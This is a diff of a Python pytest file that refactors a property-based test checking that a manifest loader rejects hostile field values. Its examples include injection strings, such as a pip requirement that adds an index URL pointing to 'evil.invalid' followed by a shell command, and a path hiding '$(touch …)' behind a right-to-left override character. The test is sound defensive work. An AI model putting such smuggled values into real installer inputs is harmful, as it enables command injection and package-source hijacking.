@@ -35,6 +35,8 @@ from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
+from hypothesis import HealthCheck, example, given, settings
+from hypothesis import strategies as st
 
 from reconciler.manifest import MAX_MANIFEST_BYTES, load_manifest
 from tests.faults.guards import (
@@ -48,14 +50,6 @@ from tests.faults.guards import (
 )
 from tests.support.envs import make_venv, tree_hash
 from tests.support.manifests import run_cli
-
-try:
-    from hypothesis import HealthCheck, example, given, settings
-    from hypothesis import strategies as st
-
-    HAVE_HYPOTHESIS = True
-except ImportError:  # pragma: no cover - the dev interpreter has it
-    HAVE_HYPOTHESIS = False
 
 C = str(CANARY)
 #: A prefix that does not exist: nothing on the machine is read for it.
@@ -941,51 +935,48 @@ def _generated_case(field: str, base: str, fragments: list[str], positions: list
     return Case("generated", field, value)
 
 
-if HAVE_HYPOTHESIS:
-    _fields = st.sampled_from(sorted(FIELDS))
+_fields = st.sampled_from(sorted(FIELDS))
 
-    @st.composite
-    def hostile_cases(draw: st.DrawFn) -> Case:
-        field = draw(_fields)
-        base = draw(st.sampled_from(BASES[field]))
-        pool = _FRAGMENTS_HIDDEN if FIELDS[field].kind == "free" else _FRAGMENTS_STRICT
-        count = draw(st.integers(min_value=1, max_value=3))
-        fragments = draw(st.lists(st.sampled_from(pool), min_size=count, max_size=count))
-        positions = draw(st.lists(st.integers(0, 200), min_size=count, max_size=count))
-        return _generated_case(field, base, fragments, positions)
 
-    @settings(
-        max_examples=GENERATED_EXAMPLES,
-        derandomize=True,
-        database=None,
-        deadline=None,
-        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
-    )
-    @given(case=hostile_cases())
-    @example(case=Case("generated", "pip", f"alpha>=1\n--index-url=http://evil.invalid; touch {C}"))
-    @example(case=Case("generated", "prefix", f"/opt/env/\u202e$(touch {C})"))
-    @example(case=Case("generated", "kernel.display_name", "Python\u2028\u200d3"))
-    @example(case=Case("generated", "environment name", "dl\n"))
-    @example(case=Case("generated", "kernel.name", "dl\n"))
-    @example(case=Case("generated", "protect", "numpy\n"))
-    @example(case=Case("generated", "create.python", "3.11\n"))
-    def test_generated_hostile_values_are_rejected(
-        case: Case,
-        tmp_path: Path,
-        capsys: pytest.CaptureFixture[str],
-        monkeypatch: pytest.MonkeyPatch,
-    ) -> None:
-        attempts = guard_processes(monkeypatch)
-        directory = tmp_path / f"case-{next(_counter)}"  # one tmp_path for all examples
-        directory.mkdir()
-        _check_case(case, directory, capsys, attempts)
+@st.composite
+def hostile_cases(draw: st.DrawFn) -> Case:
+    field = draw(_fields)
+    base = draw(st.sampled_from(BASES[field]))
+    pool = _FRAGMENTS_HIDDEN if FIELDS[field].kind == "free" else _FRAGMENTS_STRICT
+    count = draw(st.integers(min_value=1, max_value=3))
+    fragments = draw(st.lists(st.sampled_from(pool), min_size=count, max_size=count))
+    positions = draw(st.lists(st.integers(0, 200), min_size=count, max_size=count))
+    return _generated_case(field, base, fragments, positions)
 
-    _counter = itertools.count()
 
-else:  # pragma: no cover
+@settings(
+    max_examples=GENERATED_EXAMPLES,
+    derandomize=True,
+    database=None,
+    deadline=None,
+    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
+)
+@given(case=hostile_cases())
+@example(case=Case("generated", "pip", f"alpha>=1\n--index-url=http://evil.invalid; touch {C}"))
+@example(case=Case("generated", "prefix", f"/opt/env/\u202e$(touch {C})"))
+@example(case=Case("generated", "kernel.display_name", "Python\u2028\u200d3"))
+@example(case=Case("generated", "environment name", "dl\n"))
+@example(case=Case("generated", "kernel.name", "dl\n"))
+@example(case=Case("generated", "protect", "numpy\n"))
+@example(case=Case("generated", "create.python", "3.11\n"))
+def test_generated_hostile_values_are_rejected(
+    case: Case,
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    attempts = guard_processes(monkeypatch)
+    directory = tmp_path / f"case-{next(_counter)}"  # one tmp_path for all examples
+    directory.mkdir()
+    _check_case(case, directory, capsys, attempts)
 
-    def test_generated_hostile_values_are_rejected() -> None:
-        pytest.skip("hypothesis is not installed")
+
+_counter = itertools.count()
 
 
 # -- the count --------------------------------------------------------------------------------
